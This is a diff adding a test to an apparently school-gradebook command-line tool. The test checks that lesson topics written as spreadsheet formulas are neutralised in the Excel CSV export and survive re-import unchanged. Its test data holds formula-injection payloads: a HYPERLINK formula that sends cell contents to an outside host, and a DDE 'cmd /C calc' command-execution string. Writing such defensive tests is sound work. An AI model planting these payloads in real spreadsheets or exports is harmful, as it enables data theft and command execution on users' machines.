@@ -100,4 +100,21 @@ test('exports are for admins and deputies (and the operator, personal data aside
   assert.is((await run('export', 'grades', '--format', 'json', '--excel')).code, 2);
 });
 
+test('a topic that is a formula reaches Excel as text, and importing the export gives back the same value', async () => {
+  const topics = ['=HYPERLINK("http://x.lv/?d="&A1,"Atvērt")', "+cmd|' /C calc'!A0", '@SUM(A1:A2)'];
+  for (const [i, topic] of topics.entries()) assert.is((await run('lesson', 'add', '--class', '7.a', '--subject', 'mat', '--date', '2026-10-06', '--number', String(i + 1), '--topic', topic, '--as', 'T01')).code, 0, topic);
+  const r = await run('export', 'lessons', '--excel');
+  assert.is(r.code, 0, r.stderr);
+  assert.ok(r.stdout.includes(`;"'=HYPERLINK(""http://x.lv/?d=""&A1,""Atvērt"")";`), r.stdout);
+  assert.ok(r.stdout.includes(`;'+cmd|' /C calc'!A0;`), r.stdout);
+  assert.ok(r.stdout.includes(`;'@SUM(A1:A2);`), r.stdout);
+  for (const line of r.stdout.split('\r\n')) for (const cell of line.split(';')) assert.not.match(cell, /^"?[=+@]/, line);
+  const file = join(t.dir, 'lessons-excel.csv');
+  writeFileSync(file, r.stdout);
+  const back = await run('import', 'lessons', file, '--json');
+  assert.is(back.code, 0, back.stderr);
+  assert.equal(back.json.map((k: { updated: number; created: number }) => [k.created, k.updated]), [[0, 0]], 'every lesson unchanged');
+  assert.equal((await run('lesson', 'list', '--json')).json.filter((l: { date: string }) => l.date === '2026-10-06').map((l: { topic: string }) => l.topic), topics);
+});
+
 test.run();
